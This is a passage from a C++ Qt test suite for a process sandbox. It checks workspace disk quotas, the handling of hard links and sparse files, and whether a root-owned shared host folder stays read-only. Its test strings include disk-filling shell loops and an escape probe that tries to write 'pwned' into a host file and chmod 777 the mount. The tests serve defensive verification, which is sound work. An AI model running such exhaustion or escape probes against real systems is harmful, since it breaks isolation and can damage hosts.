        << QStringLiteral("for i in 1 2 3; do head -c 12582912 /dev/zero > big$i; done; echo written; sleep 30") << true;
    QTest::newRow("in many small files")
        << QStringLiteral("mkdir -p many && i=0; while [ $i -lt 40 ]; do head -c 1048576 /dev/urandom > many/f$i; i=$((i+1)); done; "
                          "echo written; sleep 30")
        << true;
    QTest::newRow("one file past the limit") << QStringLiteral("head -c 41943040 /dev/zero > one; echo \"status $?\"") << false;
    // Hard links and holes take no space: counted by blocks and once per file, they stop nothing.
    QTest::newRow("links and holes are not counted twice")
        << QStringLiteral("head -c 8388608 /dev/zero > a && for i in 1 2 3 4 5 6; do ln a l$i; done; "
                          "truncate -s 30M sparse; echo \"status $?\"")
        << false;
}

void TestEscape::workspaceSizeIsLimited()
{
    QFETCH(QString, script);
    QFETCH(bool, stopsTheSandbox);
    policy::Policy p = m_target->writable();
    p.resources.workspaceBytes = qint64(32) << 20;
    p.resources.maxFileBytes.reset();
    QPointer<Sandbox> s = m_target->start(p);
    QVERIFY(s);
    // Declared before the clean-up, which destroys the sandbox while the handlers below still listen.
    QByteArray out;
    SandboxState state = SandboxState::Running;
    QString why;
    const QString ws = m_target->workspace();
    const auto cleanUp = qScopeGuard([&] {
        if (s)
            m_target->destroy(s);
        for (const QString &name : QDir(ws).entryList({QStringLiteral("big*"), QStringLiteral("one"), QStringLiteral("a"),
                                                       QStringLiteral("l?"), QStringLiteral("sparse")},
                                                      QDir::Files))
            QFile::remove(ws + u'/' + name);
        QDir(ws + QStringLiteral("/many")).removeRecursively();
    });
    ExecRequest r;
    r.argv = {QStringLiteral("/bin/sh"), QStringLiteral("-c"), script}; // in the workspace
    Result<SandboxProcess *> started = s->exec(r);
    QVERIFY2(started, qPrintable(started ? QString() : started.error().message));
    QPointer<SandboxProcess> process = *started;
    connect(process, &SandboxProcess::stdoutReceived, this, [&out](const QByteArray &c) { out += c; });
    connect(process, &SandboxProcess::stderrReceived, this, [&out](const QByteArray &c) { out += c; });
    // What it says as it leaves Running: an ephemeral sandbox is gone right after.
    Sandbox *box = s.data();
    connect(box, &Sandbox::stateChanged, this, [&state, &why, box](SandboxState now) {
        if (!box->info().message.isEmpty())
            why = box->info().message;
        state = now;
    });
    if (stopsTheSandbox) {
        QTRY_VERIFY2_WITH_TIMEOUT(state != SandboxState::Running, qPrintable(QString::fromUtf8(out)), 30000);
        qInfo("stopped: %s", qPrintable(why));
        QVERIFY2(why.contains(QStringLiteral("workspaceBytes")), qPrintable(why));
    } else {
        QTRY_VERIFY2_WITH_TIMEOUT(out.contains("status "), out.constData(), 30000);
        const bool pastTheLimit = script.startsWith(u"head -c 41943040");
        const bool refused = !out.contains("status 0");
        qInfo("%s", out.trimmed().constData());
        QVERIFY2(refused == pastTheLimit, out.constData());
        QVERIFY2(QFileInfo(ws + QStringLiteral("/one")).size() <= (qint64(32) << 20), "a file outgrew the workspace limit");
        if (!pastTheLimit) {
            // A measurement or two later it still runs: the links and holes were not counted as space.
            auto *watch = box->findChild<WorkspaceWatch *>();
            QVERIFY(watch);
            QSignalSpy measured(watch, &WorkspaceWatch::sizeMeasured);
            QTRY_VERIFY_WITH_TIMEOUT(measured.size() >= 2 || state != SandboxState::Running, 4 * WorkspaceWatch::kIntervalMs);
            QCOMPARE(state, SandboxState::Running);
        } // else the one file filled the workspace up to its limit, and the sandbox may be stopped for it
    }
}

// A folder of host root that a policy shares read-write is still root's: the sandbox cannot write it.
void TestEscape::rootOwnedHostFolderStaysReadOnly()
{
    if (::geteuid() != 0)
        QSKIP("needs root to own the shared folder (this run is unprivileged)");
    const QString shared = m_target->root() + QStringLiteral("/root-owned");
    QVERIFY(QDir().mkpath(shared));
    ::chmod(QFile::encodeName(shared).constData(), 0755);
    writeFile(shared + QStringLiteral("/keep.txt"), "root's\n");
    const QMap<QString, QByteArray> before = hostState();
    // The preset's own user (writable() is the launcher's uid on Docker, which here is root).
    policy::Policy p = m_target->policy();
    p.filesystem.mounts.append(policy::Mount{shared, QStringLiteral("/srv/shared"), policy::Access::ReadWrite});
    Sandbox *s = m_target->start(p);
    QVERIFY(s);
    const Outcome o = sh(s, QStringLiteral("r=BLOCKED; echo pwned >> /srv/shared/keep.txt 2>/dev/null && r=ESCAPED; "
                                           "touch /srv/shared/new 2>/dev/null && r=ESCAPED; "
                                           "chmod 777 /srv/shared 2>/dev/null && r=ESCAPED; echo $r"));
    QVERIFY(m_target->destroy(s));
    QVERIFY2(o.out.contains("BLOCKED"), QByteArray(o.out + o.err).constData());
    QCOMPARE(hostState(), before);
}

QTEST_GUILESS_MAIN(TestEscape)
#include "tst_escape.moc"
